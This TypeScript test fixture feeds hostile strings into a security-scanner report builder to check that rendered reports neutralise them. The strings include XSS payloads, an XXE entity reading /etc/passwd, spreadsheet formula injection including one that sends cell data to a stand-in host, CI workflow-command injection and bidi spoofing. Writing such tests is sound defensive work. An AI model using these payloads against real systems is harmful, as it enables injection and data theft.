import type { Report } from '../src/model/report.js';
import { buildEntry, buildFinding, buildReport, buildSource, buildVulnerability } from './build-report.js';

/** Texts that scanners may print because an attacker wrote them into the target. No report may obey them. */
export const HOSTILE_TEXTS: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'the end of a script': '</script><img src=x onerror=alert(1)>',
  'the end of a comment': '--><svg/onload=alert(1)>',
  'the end of an attribute': '"\'><iframe srcdoc="<script>alert(1)</script>">',
  'an entity': '&lt;script&gt; &#x3c; &amp;amp;',
  'a javascript address': 'javascript:alert(1)',
  'a Markdown link': '[click](javascript:alert(1)) ![x](http://tracker.test/i.png) <http://tracker.test>',
  'Markdown blocks': '# Big\n\n- item\n| a | b |\n| - | - |\n```\nfence\n```\n<details><summary>x</summary>',
  'a mention': '@everyone fixes #1 closes GH-2',
  'the end of a CDATA section': ']]><failure/>',
  'XML declarations': '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
  'ANSI escapes': '\u001b[31mred\u001b[0m \u001b]8;;http://tracker.test\u0007link\u001b]8;;\u0007 \u001b[2J',
  'single control characters': '\u0000\u0007\b\u000b\u000c\u007f\u0085\u009b31m',
  'bidi marks': 'safe\u202egnp.exe\u202c \u2066isolate\u2069 \u200f',
  'characters without a shape': 'zero\u200bwidth\ufeff\u00ad\u{E0041}',
  'half of a surrogate pair': 'a\ud800b\udc00',
  'not characters': '\ufffe\uffff',
  'a formula': '=HYPERLINK("http://tracker.test?"&A1,"x")',
  'a formula by plus': "+1+cmd|' /C calc'!A0",
  'a formula by minus': "-2+3+cmd|' /C calc'!A0",
  'a formula by at': '@SUM(1+1)',
  'a formula after a tab': '\t=1+1',
  'a formula after a carriage return': '\r=1+1',
  separators: 'a,b;c\t"d"\r\ne',
  'a workflow command': 'x\n::error::injected\n::set-output name=a::b',
  'percent signs': '100%0A::error::%25',
  'a line separator': 'a\u2028b\u2029c',
  'a long title': 'A'.repeat(1_000_000),
  'a long word of wide characters': '漢'.repeat(10_000),
  nothing: '',
  'white space': ' \n\t ',
  'the prototype': '__proto__',
};

/** What a terminal, an editor or a reader's eye obeys instead of showing it. Line breaks and tabs are not among it. */
export const OBEYED = /(?![\n\t])\p{Cc}|[\p{Cs}\p{Bidi_Control}\u{AD}\u{200B}\u{2028}\u{2029}\u{FEFF}\u{E0041}]/u;

/** A report in which every text that a scanner or the target can choose is the hostile one. */
export function hostileReport(text: string): Report {
  const output = { path: 'advanced/hadolint.json', pointer: `/${text}` };
  const location = { path: text || 'x', startLine: 1, resource: text };
  const common = {
    title: text,
    message: text,
    locations: [location],
    rule: { control: null, cwes: [text], frameworks: [text], help: text, helpUri: text },
    fix: { summary: text, versions: [text] },
    sources: [buildSource('hadolint', text, { severity: text, location, output }), buildSource(text || 'x', text)],
    agreement: { found: ['hadolint', text], couldHaveFound: [text], notFound: [{ scanner: text, why: text }] },
    due: { by: null, because: text },
  };
  return buildReport({
    verdict: 'fail',
    target: { kind: 'repository', path: text || '.', commit: text },
    gate: { rules: [{ rule: text, held: false, because: text, findings: [text] }] },
    coverage: [
      buildEntry('hadolint', { reason: text, notCovered: [{ what: text, why: text }], command: [text], input: text }),
      buildEntry(text || 'x', {
        version: text,
        database: { name: text, updatedAt: null, ageHours: null, digest: text },
      }),
    ],
    blindSpots: [{ what: text, paths: [text], why: text }],
    silenced: [{ where: text, what: text, by: text }],
    findings: [
      buildFinding(common),
      buildFinding({ ...common, kind: 'secret' }),
      buildFinding({ ...common, kind: 'code', risk: { score: 1, factors: [{ name: text, value: 1, because: text }] } }),
      buildFinding({
        ...common,
        status: 'suppressed',
        suppression: { reason: text, by: text, owner: text, expires: text },
      }),
      buildVulnerability({
        ...common,
        package: { ecosystem: text, name: text, version: text, purl: text },
        advisory: {
          id: text,
          aliases: [text],
          cwes: [text],
          cvss: [{ version: text, vector: text, score: 1, source: text }],
          url: text,
          assertions: [{ ids: [text, text], by: [text], joined: true }],
        },
      }),
    ],
  });
}
